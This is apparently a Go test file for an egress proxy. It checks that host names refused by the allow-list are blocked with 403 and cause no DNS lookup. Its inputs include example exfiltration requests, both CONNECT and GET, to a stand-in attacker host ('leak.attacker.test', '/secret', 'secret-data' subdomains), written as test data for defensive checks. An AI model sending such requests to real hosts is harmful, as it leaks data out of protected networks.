package egress

import (
	"bufio"
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"strings"
	"sync"
	"testing"

	"golang.org/x/net/dns/dnsmessage"
)

// dnsStandin is a resolver on loopback UDP that counts the questions it
// is asked, by name, and answers address for every A question of a name
// in names (NXDOMAIN otherwise).
type dnsStandin struct {
	addr  string
	names map[string]netip.Addr

	mu    sync.Mutex
	asked map[string]int
}

func startDNS(t testing.TB, names map[string]netip.Addr) *dnsStandin {
	t.Helper()
	pc, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	d := &dnsStandin{addr: pc.LocalAddr().String(), names: names, asked: map[string]int{}}
	done := make(chan struct{})
	t.Cleanup(func() { pc.Close(); <-done })
	go func() {
		defer close(done)
		buf := make([]byte, 1500)
		for {
			n, from, err := pc.ReadFrom(buf)
			if err != nil {
				return
			}
			if out, ok := d.answer(buf[:n]); ok {
				pc.WriteTo(out, from)
			}
		}
	}()
	return d
}

func (d *dnsStandin) answer(q []byte) ([]byte, bool) {
	var m dnsmessage.Message
	if err := m.Unpack(q); err != nil || len(m.Questions) != 1 {
		return nil, false
	}
	qq := m.Questions[0]
	name := strings.TrimSuffix(strings.ToLower(qq.Name.String()), ".")
	d.mu.Lock()
	d.asked[name]++
	d.mu.Unlock()
	m.Header.Response, m.Header.RecursionAvailable = true, true
	a, ok := d.names[name]
	switch {
	case !ok:
		m.Header.RCode = dnsmessage.RCodeNameError
	case qq.Type == dnsmessage.TypeA:
		m.Answers = []dnsmessage.Resource{{
			Header: dnsmessage.ResourceHeader{Name: qq.Name, Type: dnsmessage.TypeA, Class: dnsmessage.ClassINET, TTL: 60},
			Body:   &dnsmessage.AResource{A: a.As4()},
		}}
	}
	out, err := m.Pack()
	return out, err == nil
}

func (d *dnsStandin) questions(name string) int {
	d.mu.Lock()
	defer d.mu.Unlock()
	return d.asked[name]
}

// resolve is a Config.Resolve that asks only the stand-in.
func (d *dnsStandin) resolve(ctx context.Context, host string) ([]netip.Addr, error) {
	r := &net.Resolver{PreferGo: true, Dial: func(ctx context.Context, _, _ string) (net.Conn, error) {
		var nd net.Dialer
		return nd.DialContext(ctx, "udp", d.addr)
	}}
	return r.LookupNetIP(ctx, "ip4", host+".")
}

// A name the allow-list refuses causes no DNS question, whichever way it
// is asked for (CONNECT, plain HTTP, a port the rule does not name, a
// look-alike of a wildcard); an allowed name is resolved (so the count
// does see questions).
func TestRefusedNameAsksNoDNS(t *testing.T) {
	dns := startDNS(t, map[string]netip.Addr{
		"registry.example.com": netip.MustParseAddr("93.184.216.34"),
		"leak.attacker.test":   netip.MustParseAddr("93.184.216.35"),
	})
	for _, ca := range []*CA{nil, testCA(t)} {
		t.Run(fmt.Sprintf("terminating=%v", ca != nil), func(t *testing.T) {
			tp := startProxy(t, Config{Rules: rules(t, "registry.example.com,*.pkg.example.com"), Resolve: dns.resolve, CA: ca}, nil)
			for _, raw := range []string{
				"CONNECT leak.attacker.test:443 HTTP/1.1\r\nHost: leak.attacker.test:443\r\n\r\n",
				"GET http://leak.attacker.test/secret HTTP/1.1\r\nHost: leak.attacker.test\r\n\r\n",
				"CONNECT registry.example.com:8443 HTTP/1.1\r\n\r\n",
				"CONNECT pkg.example.com.leak.attacker.test:443 HTTP/1.1\r\n\r\n",
				"GET http://secret-data.leak.attacker.test/ HTTP/1.1\r\n\r\n",
			} {
				c := tp.dial(t)
				if _, err := io.WriteString(c, raw); err != nil {
					t.Fatal(err)
				}
				if h := readHead(t, bufio.NewReader(c)); h.status != http.StatusForbidden {
					t.Errorf("%q: %d, want 403", raw, h.status)
				}
			}
			for _, name := range []string{"leak.attacker.test", "secret-data.leak.attacker.test", "pkg.example.com.leak.attacker.test"} {
				if n := dns.questions(name); n != 0 {
					t.Errorf("%d DNS questions for the refused %s", n, name)
				}
			}
		})
	}
	// The opaque path resolves an allowed name at once; the terminating
	// one when its pool dials.
	tp := startProxy(t, Config{Rules: rules(t, "registry.example.com"), Resolve: dns.resolve}, nil)
	c := tp.dial(t)
	connect(t, c, "registry.example.com:443")
	if dns.questions("registry.example.com") == 0 {
		t.Error("the allowed name was never resolved: the stand-in counts nothing")
	}
}
